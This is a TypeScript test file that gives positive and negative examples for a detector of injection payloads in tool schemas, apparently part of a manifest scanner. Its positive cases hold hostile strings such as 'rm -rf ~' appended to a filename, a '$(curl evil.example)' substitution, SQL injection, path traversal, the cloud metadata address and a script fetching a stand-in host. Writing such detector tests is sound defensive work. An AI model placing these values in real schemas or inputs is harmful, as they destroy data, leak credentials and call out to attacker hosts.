import type { JsonValue } from '#lib/manifest/types.ts';
import { examplesOf, ofText, ofTools } from '../example-snapshots.ts';
import type { InputSnapshot, RuleExample } from '../types.ts';
import { INJECTION_PAYLOAD } from './rules.ts';

const ofProperty = (property: JsonValue): InputSnapshot =>
  ofTools({
    name: 'lookup',
    description: 'Looks something up.',
    inputSchema: { type: 'object', properties: { target: property } },
  });

export const EXAMPLES: readonly RuleExample[] = examplesOf(INJECTION_PAYLOAD, {
  finds: [
    ['a command behind a default', ofProperty({ type: 'string', default: 'report.txt; rm -rf ~' })],
    ['a command substitution', ofProperty({ type: 'string', default: '$(curl evil.example)' })],
    ['an SQL injection among the enumerated values', ofProperty({ type: 'string', enum: ['all', "x' OR '1'='1"] })],
    ['a path out of the directory', ofProperty({ type: 'string', examples: ['../../../etc/hostname'] })],
    ['the metadata service of a cloud', ofProperty({ type: 'string', default: 'http://169.254.169.254/latest/' })],
    ['a script in a description', ofText('Renders a page.<script>fetch("//evil.example")</script>')],
  ],
  leaves: [
    ['ordinary defaults', ofProperty({ type: 'string', default: '.', enum: ['.', '..', '../sibling'] })],
    ['a query as an example', ofProperty({ type: 'string', examples: ["SELECT name FROM users WHERE city = 'Bern'"] })],
    [
      'a description that explains what is blocked',
      ofProperty({ type: 'string', description: 'Host; ../../ and 169.254.169.254 are refused.' }),
    ],
    ['a description that names the element', ofText('Removes <script> and <style> elements from HTML.', 'clean_html')],
  ],
});
